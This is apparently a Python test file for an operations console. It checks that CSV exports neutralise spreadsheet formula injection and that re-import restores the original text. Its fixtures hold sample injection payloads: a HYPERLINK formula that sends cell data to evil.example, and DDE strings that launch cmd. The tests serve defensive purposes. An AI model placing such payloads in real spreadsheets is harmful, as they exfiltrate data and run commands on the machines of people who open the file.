"""CSV formula injection: what the console writes opens in Excel as text, and reads back whole."""

from __future__ import annotations

import csv
import io
from datetime import date

from hypothesis import given
from hypothesis import strategies as st

from ops_console.reports.output import CsvTable, write_csv
from ops_console.services.formats import HEADER
from ops_console.services.formats import write_csv as write_device_csv
from ops_console.services.formats.csv_output import TRIGGERS, neutralise, restore

# what a resident-facing name or a hostile import might hold, and what each must become
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "location": "+1+cmd|' /C calc'!A0",
    "vendor": "-2+3",
    "model": "@SUM(1+1)*cmd|' /C calc'!A0",
}
QUOTED = "'SN-quoted by hand"  # a leading quote of its own: kept, never taken for ours


def _device_csv(path, **cells: str) -> None:
    row = dict.fromkeys(HEADER, "")
    row.update(asset_tag="HB-X-1", name="门禁", category="access_gate", community="湖滨")
    row.update(address="127.0.0.1", snmp_version="v2c", credential="demo-v2c")
    row.update(cells)
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        w = csv.writer(f)
        w.writerow(HEADER)
        w.writerow([row[h] for h in HEADER])


def test_device_export_neutralises_formulas_and_import_restores_the_text(services, admin, tmp_path):
    services.accounts.add_community(admin, "湖滨")
    source = tmp_path / "in.csv"
    _device_csv(source, serial=QUOTED, **HOSTILE)
    services.inventory.import_csv(admin, source)

    out = tmp_path / "out.csv"
    services.inventory.export_csv(admin, out)
    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8-sig"))))
    exported = rows[0]
    for column, text in HOSTILE.items():
        assert exported[column] == "'" + text, column  # a quote first: Excel shows text
    assert exported["serial"] == QUOTED
    for row in rows:
        for cell in row.values():
            assert not cell or cell[0] not in TRIGGERS, cell

    # the export read back changes nothing: the quotes the export added come off again
    result = services.inventory.import_csv(admin, out)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 1)
    device = services.inventory.list_devices(admin)[0]
    for column, text in HOSTILE.items():
        assert getattr(device, column) == text, column
    assert device.serial == QUOTED


def test_report_csv_cells_are_neutralised_and_numbers_left_alone(tmp_path):
    out = tmp_path / "r.csv"
    table = CsvTable(
        "t",
        ("title", "note", "amount", "delta", "day"),
        [("=1+2", "@x", -300, "-12.5", date(2026, 11, 1)), ("\tTAB", "\rCR", 0, "-", None)],
    )
    assert write_csv(out, [table]) == 2
    lines = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    assert lines[1] == ["'=1+2", "'@x", "-300", "-12.5", "2026-11-01"]
    assert lines[2] == ["'\tTAB", "'\rCR", "0", "-", ""]


def test_a_legitimate_leading_quote_survives_the_round_trip():
    assert neutralise("'abc") == "'abc" and restore("'abc") == "'abc"
    assert neutralise("'=x") == "''=x" and restore("''=x") == "'=x"
    assert restore(neutralise("=x")) == "=x"


@given(st.text())
def test_neutralise_then_restore_is_the_identity(text):
    safe = neutralise(text)
    assert restore(safe) == text
    if safe and safe[0] in TRIGGERS:  # only plain numbers and a lone dash stay as they are
        assert safe == "-" or float(safe) == float(text), safe


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_device_writer_rows_read_back_through_restore(cells):
    buf = io.StringIO(newline="")

    class Row:
        def as_row(self) -> list[str]:
            return cells

    write_device_csv([Row()], buf)  # type: ignore[list-item]
    read = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert [restore(c) for c in read[1]] == cells
